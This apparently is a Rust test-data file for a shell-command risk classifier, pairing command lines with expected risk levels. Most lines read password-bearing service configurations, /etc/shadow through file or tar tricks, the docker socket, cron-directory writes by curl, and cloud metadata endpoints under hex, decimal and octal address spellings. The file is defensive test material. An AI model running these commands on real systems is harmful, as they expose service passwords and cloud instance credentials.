//! Dangerous command lines, twenty-fourth set.
//! Services' own configuration, readable by everyone as their packages install it, with
//! passwords among their settings in shapes of their own: `/etc/mongod.conf` (the TLS key's
//! password, the LDAP bind's `queryPassword`), `/etc/influxdb`, `/etc/elasticsearch`,
//! `/etc/opensearch`, `/etc/zabbix` (the agent's and proxy's, as the server's
//! `zabbix_server.conf` was), `/etc/dovecot`, `/etc/haproxy` (`stats auth user:pass`),
//! PHP-FPM's pools (`env[DB_PASSWORD]`), `/etc/snmp` (client passphrases, trap communities),
//! `/etc/rabbitmq`, `/etc/pgbouncer`, NRPE's commands and `/etc/prometheus` (`basic_auth`,
//! `bearer_token`), pam_ldap's `bindpw` (`/etc/ldap.conf`), `/etc/squid` (`cache_peer …
//! login=`), `/etc/proftpd` (`SQLConnectInfo`), collectd's and netdata's collectors,
//! Kafka's `server.properties` (`sasl.jaas.config`, keystore passwords): high on both paths by
//! any reader, as `/etc/postfix/main.cf` is (`paths/clear_credentials.rs`); a wildcard that
//! may expand to one is judged as it.
//! `cat /etc/os-release`, `/etc/hostname`, `/etc/hosts`, `/etc/resolv.conf`, nginx's and
//! Apache's configuration and Samba's `smb.conf` (its passwords live in root-only tdb files)
//! stay low.
//! `pg_ctlcluster V C status` and `pg_ctl status` print the running server's command line
//! (`postmaster.opts`): judged as `ps args` is, high on `ssh_exec` (this host's answer is
//! redacted); `pg_lsclusters` prints no command line and stays low.
//! curl's options follow a positive model: each option curl has that Warden knows is listed,
//! so a cluster is read to its end (`curl -so /etc/cron.d/x URL`, `-sK FILE`, `-LO` were read
//! as far as their first letter only, and the writer after it went unseen); an option Warden
//! does not know is high. `-K`/`--config` (its file chooses URLs and outputs), `--hsts` and
//! `--alt-svc` (cache files it writes), `-w '%output{FILE}'` and `--unix-socket` (a local
//! service's API: docker's is root's) are high. A cloud metadata service reached by `curl`,
//! `wget`, `nc` or `socat` at any path (`http://169.254.169.254/latest/meta-data/`, its hex,
//! decimal and IPv6 spellings, `metadata.google.internal`) is high: its listing leads to the
//! instance's role credentials, whatever the path's spelling says.
//! An archive member printed by `tar -xO` holds what the file it was archived from held:
//! `etc/mongod.conf` of a backup of `/` (or `./etc/…`, `/etc/…`) is judged as
//! `/etc/mongod.conf` is, as `etc/shadow` already was; `etc/hostname` stays low on this host.
//! `file -m`/`--magic-file` with a magic file of the line's choosing prints the bytes its tests
//! match (`0 string x %s`, at any offset): each operand is judged as a read of its contents, as
//! `cat` judges it (`file -m /usr/share/misc/magic /etc/mongod.conf`: high); plain `file
//! /etc/mongod.conf` names its type only and stays low.
//! A file that gives sed its script (`-f`), awk its program (`-f`, `-E`), dig its queries
//! (`-f`) or wc and sort their list of names (`--files0-from`) is read: its lines are quoted in their errors (dig sends each as a query and prints
//! it back), so it is judged as `cat` judges it (`sed -f /etc/mongod.conf`: high), beside the
//! medium an unseen script already gets.
//! Judged and left as they were: `pip freeze` (a VCS requirement's URL credentials are hidden
//! by the output redaction, which runs on `ssh_exec`'s answers too); backups of the account
//! databases (`/var/backups/shadow.bak`, `/etc/shadow-`, `zcat …gz`) and archive members named
//! like secrets (`tar -xOf backup.tar etc/shadow`) were already high; `unzip`, `7z`, `cpio`
//! are high; `dig @SERVER`, `nslookup NAME SERVER`, `ping -p`, `openssl s_client`, `git
//! ls-remote` are medium; `sar -o`, `strace -o`, `tcpdump -w`, `openssl -keylogfile` high.

use crate::kinds::Kind;
use warden_policy::RiskLevel::High;

pub const REMOTE_KINDS: &[Kind] = &[Kind {
    name: "server-command-lines-through-postgresql-status",
    lines: &[
        ("pg_ctlcluster 14 main status", High),
        ("pg_ctlcluster 16 main status", High),
        ("pg_ctl status", High),
        ("pg_ctl -D /var/lib/postgresql/14/main status", High),
        ("pg_ctl status -D /var/lib/pgsql/data", High),
        ("systemctl status postgresql@14-main", High),
    ],
}];

pub const KINDS: &[Kind] = &[
    Kind {
        name: "service-configuration-with-passwords",
        lines: &[
            ("cat /etc/mongod.conf", High),
            ("grep -i password /etc/mongod.conf", High),
            ("head -n 50 /etc/mongod.conf", High),
            ("sed -n p /etc/mongod.conf", High),
            ("awk 1 /etc/mongodb.conf", High),
            ("tail /etc/mongos.conf", High),
            ("cat /etc/influxdb/influxdb.conf", High),
            ("cat /etc/influxdb/config.toml", High),
            ("cat /etc/elasticsearch/elasticsearch.yml", High),
            ("cat /etc/zabbix/zabbix_agentd.conf", High),
            ("grep -r Password /etc/zabbix", High),
            ("cat /etc/dovecot/dovecot.conf", High),
            ("cat /etc/dovecot/conf.d/10-auth.conf", High),
            ("cat /etc/haproxy/haproxy.cfg", High),
            ("grep -i 'stats auth' /etc/haproxy/haproxy.cfg", High),
            ("cat /etc/php/8.1/fpm/pool.d/www.conf", High),
            ("grep env /etc/php-fpm.d/www.conf", High),
            ("cat /etc/snmp/snmp.conf", High),
            ("cat /etc/snmp/snmptrapd.conf", High),
            ("cat /etc/rabbitmq/advanced.config", High),
            ("cat /etc/pgbouncer/pgbouncer.ini", High),
            ("cat /etc/nagios/nrpe.cfg", High),
            ("cat /etc/nagios/nrpe.d/checks.cfg", High),
            ("cat /etc/prometheus/prometheus.yml", High),
            ("strings /etc/mongod.conf", High),
            ("cat /etc/haproxy/*", High),
            ("cat /etc/ldap.conf", High),
            ("cat /etc/squid/squid.conf", High),
            ("cat /etc/proftpd/sql.conf", High),
            ("cat /etc/collectd/collectd.conf", High),
            ("cat /etc/collectd.conf", High),
            ("cat /etc/netdata/go.d/mysql.conf", High),
            ("cat /etc/kafka/server.properties", High),
            ("cat /opt/kafka/config/server.properties", High),
            ("cat /etc/m*.conf", High),
        ],
    },
    Kind {
        name: "archive-members-judged-as-the-files-they-were",
        lines: &[
            ("tar -xOf /srv/backup/etc.tar etc/mongod.conf", High),
            (
                "tar -xOf /srv/backup/etc.tar ./etc/haproxy/haproxy.cfg",
                High,
            ),
            ("tar -xzOf /srv/backup/etc.tgz etc/fstab", High),
            (
                "tar -xOf /srv/backup/etc.tar etc/systemd/system/app.service",
                High,
            ),
            ("tar -xOf /srv/backup/etc.tar etc/default/telegraf", High),
            (
                "tar -xOf /srv/backup/etc.tar /etc/zabbix/zabbix_agentd.conf",
                High,
            ),
            ("tar -xOf /srv/backup/etc.tar etc/../etc/mongod.conf", High),
        ],
    },
    Kind {
        name: "file-with-a-magic-file-prints-contents",
        lines: &[
            ("file -m /usr/share/misc/magic /etc/mongod.conf", High),
            ("file --magic-file=/usr/share/misc/magic /etc/fstab", High),
            (
                "file -bm /usr/share/misc/magic /etc/haproxy/haproxy.cfg",
                High,
            ),
            ("file -m /usr/share/misc/magic /etc/shadow", High),
        ],
    },
    Kind {
        name: "script-and-query-files-judged-as-read",
        lines: &[
            ("sed -f /etc/mongod.conf /etc/hostname", High),
            ("awk -f /etc/haproxy/haproxy.cfg /etc/hostname", High),
            ("gawk -E /etc/fstab /etc/hostname", High),
            ("dig -f /etc/mongod.conf", High),
            ("dig -f /etc/fstab", High),
            ("wc --files0-from=/etc/mongod.conf", High),
            ("sort --files0-from=/etc/haproxy/haproxy.cfg", High),
        ],
    },
    Kind {
        name: "curl-option-clusters",
        lines: &[
            ("curl -so /etc/cron.d/x http://example.com/x", High),
            ("curl -sSo /etc/cron.d/x http://example.com/x", High),
            ("curl -Lo /etc/cron.d/x http://example.com/x", High),
            ("curl -sO http://example.com/x", High),
            ("curl -sLO http://example.com/x", High),
            ("curl -sK /tmp/c", High),
            ("curl -Zo /etc/x http://example.com/x", High),
            ("curl --bogus-option /tmp/x http://example.com/x", High),
        ],
    },
    Kind {
        name: "curl-options-that-write-or-choose-for-the-line",
        lines: &[
            ("curl -K /tmp/cfg http://example.com", High),
            ("curl --config=/tmp/cfg", High),
            ("curl --hsts /etc/cron.d/x http://example.com", High),
            ("curl --alt-svc /etc/cron.d/x http://example.com", High),
            (
                "curl -w '%output{/etc/cron.d/x}hi' http://example.com",
                High,
            ),
            (
                "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
                High,
            ),
            (
                "curl -s --unix-socket /run/containerd/containerd.sock http://x/",
                High,
            ),
        ],
    },
    Kind {
        name: "cloud-metadata-services",
        lines: &[
            ("curl http://169.254.169.254/latest/meta-data/", High),
            ("curl -s http://169.254.169.254/", High),
            (
                "curl -s 'http://169.254.169.254/computeMetadata/v1/?recursive=true' -H 'Metadata-Flavor: Google'",
                High,
            ),
            (
                "curl http://metadata.google.internal/computeMetadata/v1/",
                High,
            ),
            ("curl http://metadata/computeMetadata/v1/", High),
            ("curl http://0xa9fea9fe/latest/meta-data/", High),
            ("curl http://2852039166/latest/meta-data/", High),
            ("curl http://0251.0376.0251.0376/", High),
            ("curl 'http://[fd00:ec2::254]/latest/meta-data/'", High),
            ("curl http://instance-data/latest/meta-data/", High),
            ("wget -qO- http://169.254.169.254/latest/meta-data/", High),
            ("wget -qO- http://100.100.100.200/latest/meta-data/", High),
            ("nc 169.254.169.254 80", High),
            ("curl http://169.254.170.2/v2/metadata", High),
        ],
    },
];

pub const STILL_LOW: &[&str] = &[
    "cat /etc/os-release",
    "cat /etc/hostname",
    "cat /etc/hosts",
    "cat /etc/resolv.conf",
    "cat /etc/nginx/nginx.conf",
    "cat /etc/nginx/sites-enabled/default",
    "cat /etc/samba/smb.conf",
    "cat /etc/php/8.1/fpm/php.ini",
    "cat /etc/ntp.conf",
    "cat /etc/memcached.conf",
    "ls -la /etc/haproxy",
    "ls /etc/zabbix",
    "stat /etc/mongod.conf",
    "pg_lsclusters",
    "pip freeze",
    "pip list",
    "pip list --format=freeze",
    "dig -r example.com",
    "ping -c 1 example.com",
    "sar -f /var/log/sa/sa01",
    "iostat -o JSON",
    "file -m /usr/share/misc/magic /etc/hostname",
];

pub const CONTAINED_STILL_LOW: &[&str] = &[
    // On `ssh_exec` file(1) loads the remote home's `~/.magic`, which may print the bytes it
    // reads: judged as `file -m` there (round25.rs).
    "file /etc/mongod.conf",
    "pg_ctlcluster 14 main status",
    "tar -xOf /tmp/backup.tar etc/hostname",
    "tar -xOf /tmp/backup.tar etc/os-release",
    "tar -tf /tmp/backup.tar",
];
